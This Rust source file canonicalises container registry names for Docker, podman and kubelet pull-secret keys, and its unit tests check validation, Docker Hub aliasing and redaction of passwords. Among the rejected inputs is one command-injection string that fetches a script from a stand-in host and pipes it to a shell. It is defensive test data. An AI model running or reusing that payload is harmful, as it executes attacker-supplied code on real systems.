//! Registry names: how a server written in a docker config, a podman auth file or on the
//! command line becomes one canonical [`Registry`], with Docker Hub's aliases folded into one.

use super::text::redact_userinfo;
use std::fmt;

use super::image::{is_domain_and_port, is_remote_name};

/// The key `kubectl create secret docker-registry` writes for Docker Hub. The kubelet reaches it
/// through its Docker Hub fallback (docs/semantics.md §4), and `docker login` stores Hub logins under it.
pub const DOCKER_HUB_KEY: &str = "https://index.docker.io/v1/";

/// Hosts that all mean Docker Hub (docs/semantics.md §1, §3).
const DOCKER_HUB_HOSTS: [&str; 3] = ["docker.io", "index.docker.io", "registry-1.docker.io"];

/// A registry, optionally narrowed to a repository path prefix (podman allows `quay.io/team`
/// keys, and the kubelet matches key paths as prefixes).
///
/// Canonical form: lowercase `host[:port]` plus an optional `/path`, no scheme, no trailing
/// slash, no `/v1` or `/v2` API prefix. Docker Hub is always `docker.io`.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Registry {
    host: String,
    path: Option<String>,
}

/// A registry server that cannot be used, and why (any password in it masked).
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[error("invalid registry server {:?}: {reason}", redact_userinfo(input))]
pub struct InvalidRegistry {
    pub input: String,
    pub reason: &'static str,
}

impl Registry {
    /// Parses a server the way docker, podman and the kubelet all accept one:
    /// `quay.io`, `https://quay.io/`, `reg:5000`, `https://index.docker.io/v1/`, `quay.io/team`.
    pub fn parse(input: &str) -> Result<Self, InvalidRegistry> {
        let invalid = |reason| InvalidRegistry {
            input: input.to_string(),
            reason,
        };
        let trimmed = input.trim();
        if trimmed.is_empty() {
            return Err(invalid("it is empty"));
        }
        let without_scheme = trimmed
            .strip_prefix("https://")
            .or_else(|| trimmed.strip_prefix("http://"))
            .unwrap_or(trimmed);
        if without_scheme.contains("://") {
            return Err(invalid("only http:// and https:// are allowed"));
        }
        let (host, path) = match without_scheme.split_once('/') {
            Some((host, path)) => (host, path.trim_matches('/')),
            None => (without_scheme, ""),
        };
        if host.is_empty() {
            return Err(invalid("it has no host"));
        }
        // distribution/reference's grammar, as images name registries: `host[:port]`, then
        // path components of `[a-z0-9]` joined by `.`, `_`, `__` or dashes.
        if !is_domain_and_port(host) {
            return Err(invalid(
                "the host must be a domain name, an IPv4 address or a [bracketed IPv6 address], with an optional :port",
            ));
        }
        if let Some((_, port)) = host.rsplit_once(':').filter(|_| !host.ends_with(']'))
            && !port.parse::<u16>().is_ok_and(|port| port > 0)
        {
            return Err(invalid("the port must be 1 to 65535"));
        }
        // The kubelet strips a leading /v1/ or /v2/ API prefix from keys (docs/semantics.md §4).
        let path = strip_api_version(path).to_ascii_lowercase();
        if !path.is_empty() && !is_remote_name(&path) {
            return Err(invalid(
                "the repository path must be components of a-z and 0-9 joined by '.', '_', '__' or '-', separated by '/'",
            ));
        }
        let mut host = host.to_ascii_lowercase();
        if DOCKER_HUB_HOSTS.contains(&host.as_str()) {
            host = "docker.io".to_string();
        }
        Ok(Self {
            host,
            path: (!path.is_empty()).then_some(path),
        })
    }

    /// Docker Hub, the registry of images named without a host.
    pub fn docker_hub() -> Self {
        Self {
            host: "docker.io".to_string(),
            path: None,
        }
    }

    /// Whether this is Docker Hub, under any of its spellings.
    pub fn is_docker_hub(&self) -> bool {
        self.host == "docker.io"
    }

    /// `host[:port]`, without any repository path.
    pub fn host(&self) -> &str {
        &self.host
    }

    /// The key to write into a pull Secret's `auths`. Docker Hub gets kubectl's default key,
    /// never `registry-1.docker.io`, which the kubelet does not match (docs/semantics.md §4).
    pub fn secret_key(&self) -> String {
        match (&self.path, self.is_docker_hub()) {
            (None, true) => DOCKER_HUB_KEY.to_string(),
            _ => self.to_string(),
        }
    }

    /// The key docker's `getAuthConfigKey` uses for stores and helpers (docs/semantics.md §1).
    pub fn docker_config_key(&self) -> String {
        if self.is_docker_hub() {
            DOCKER_HUB_KEY.to_string()
        } else {
            self.host.clone()
        }
    }
}

fn strip_api_version(path: &str) -> &str {
    for version in ["v1", "v2"] {
        if path == version {
            return "";
        }
        if let Some(rest) = path.strip_prefix(version).and_then(|r| r.strip_prefix('/')) {
            return rest;
        }
    }
    path
}

impl fmt::Display for Registry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.path {
            Some(path) => write!(f, "{}/{}", self.host, path),
            None => f.write_str(&self.host),
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn userinfo_never_reaches_a_message() {
        for key in [
            "https://robot:S3CRET@quay.io/v1/",
            "robot:S3CRET@quay.io",
            "http://S3CRET@reg:5000",
        ] {
            let message = Registry::parse(key).unwrap_err().to_string();
            assert!(!message.contains("S3CRET"), "{message}");
            assert!(message.contains("***@"), "{message}");
        }
    }

    #[test]
    fn servers_follow_the_distribution_grammar() {
        for bad in [
            ":",
            "[[[",
            "-",
            "a:b:c",
            "quay.io/../..",
            "quay.io:99999999",
            "quay.io:0",
            "quay_io",
            "-quay.io",
            "quay.io/team//x",
            "[$(curl${IFS}-s${IFS}evil.sh|sh)]",
        ] {
            assert!(Registry::parse(bad).is_err(), "{bad:?} was accepted");
        }
        for good in [
            "quay.io",
            "reg.example.com:5000",
            "localhost:65535",
            "127.0.0.1:5000",
            "[::1]:5000",
            "quay.io/Team/app",
            "https://index.docker.io/v1/",
        ] {
            assert!(Registry::parse(good).is_ok(), "{good:?} was refused");
        }
    }

    use super::*;

    fn canonical(input: &str) -> String {
        Registry::parse(input).unwrap().to_string()
    }

    #[test]
    fn docker_hub_aliases_are_one_registry() {
        for alias in [
            "docker.io",
            "index.docker.io",
            "registry-1.docker.io",
            "https://index.docker.io/v1/",
            "https://index.docker.io/v1",
            "http://docker.io/",
            "Docker.IO",
        ] {
            assert_eq!(
                Registry::parse(alias).unwrap(),
                Registry::docker_hub(),
                "{alias}"
            );
        }
        assert_eq!(Registry::docker_hub().secret_key(), DOCKER_HUB_KEY);
        assert_eq!(Registry::docker_hub().docker_config_key(), DOCKER_HUB_KEY);
    }

    #[test]
    fn schemes_slashes_and_api_prefixes_are_dropped() {
        assert_eq!(canonical("https://quay.io/"), "quay.io");
        assert_eq!(canonical("quay.io/v2/"), "quay.io");
        assert_eq!(canonical("http://reg.local:5000"), "reg.local:5000");
        assert_eq!(canonical("quay.io/team/app"), "quay.io/team/app");
        assert_eq!(canonical("https://quay.io/v1/team"), "quay.io/team");
        assert_eq!(canonical("localhost:5000"), "localhost:5000");
    }

    #[test]
    fn ports_and_paths_are_kept_in_keys() {
        let reg = Registry::parse("reg.example.com:5000/team").unwrap();
        assert_eq!(reg.host(), "reg.example.com:5000");
        assert_eq!(reg.secret_key(), "reg.example.com:5000/team");
        assert_eq!(reg.secret_key(), "reg.example.com:5000/team");
        assert_eq!(reg.docker_config_key(), "reg.example.com:5000");
        assert_eq!(
            Registry::parse("docker.io/myorg").unwrap().secret_key(),
            "docker.io/myorg"
        );
    }

    #[test]
    fn bad_servers_are_rejected_with_a_reason() {
        assert!(Registry::parse("").is_err());
        assert!(Registry::parse("   ").is_err());
        assert!(Registry::parse("ftp://quay.io").is_err());
        assert!(Registry::parse("https:///path").is_err());
        assert!(Registry::parse("quay io").is_err());
        assert!(Registry::parse("user@quay.io").is_err());
    }
}
